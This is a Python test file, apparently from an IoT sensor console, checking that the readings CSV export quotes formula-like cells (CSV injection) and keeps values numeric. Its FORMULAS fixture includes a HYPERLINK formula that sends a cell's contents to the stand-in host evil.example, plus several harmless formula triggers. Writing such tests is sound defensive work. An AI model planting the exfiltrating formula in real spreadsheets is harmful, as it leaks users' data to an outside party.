"""The readings CSV cannot carry a spreadsheet formula: a text cell a device chose (its id, a
value's unit) that starts with = + - @, a tab or a carriage return is exported with a leading
single quote (OWASP, CSV injection), and the values stay numbers. A real device on the device
WebSocket stores the reading; the console exports it over HTTP."""

from __future__ import annotations

import asyncio
import csv
import io
import time

import websockets

from firmware_protocol import Hello, ReadingAck, ReadingStatus, SensorReading, Welcome, decode, encode

FORMULAS = {"link": '=HYPERLINK("http://evil.example/?d="&B2,"Details")', "plus": "+1+1", "at": "@SUM(A1:A9)",
            "minus": "-2-1", "tab": "\t=1", "cr": "\r=1", "plain": "kg"}


async def test_formula_like_cells_are_quoted_and_numbers_stay_numbers(console_gateway, admin) -> None:
    device = "-3-1"  # a device id is [A-Za-z0-9._:-]: this one is a sum to a spreadsheet
    added = (await admin.request("POST", "/console/api/devices/add", {"device_id": device})).json()
    async with websockets.connect(console_gateway.device_url) as ws:
        await ws.send(encode(Hello(device, added["token"])))
        assert isinstance(decode(await asyncio.wait_for(ws.recv(), 30)), Welcome)
        values = tuple((name, unit, -36.5) for name, unit in FORMULAS.items())
        await ws.send(encode(SensorReading(1, "formulas", int(time.time() - 5), values)))
        ack = decode(await asyncio.wait_for(ws.recv(), 30))
        assert isinstance(ack, ReadingAck) and ack.status == ReadingStatus.STORED, ack
    answer = await admin.request("GET", "/console/api/readings.csv?kind=formulas&days=1")
    rows = list(csv.reader(io.StringIO(answer.body.decode(), newline="")))
    assert rows[0] == ["id", "measured_at_utc", "device_id", "person", "kind", "name", "value", "unit"]
    mine = {row[5]: row for row in rows[1:] if row[2] == "'" + device}
    assert set(mine) == set(FORMULAS)
    for name, unit in FORMULAS.items():
        expected = unit if name == "plain" else "'" + unit
        assert mine[name][7] == expected, (name, mine[name][7])
        assert mine[name][6] == "-36.5"  # a number, as it was
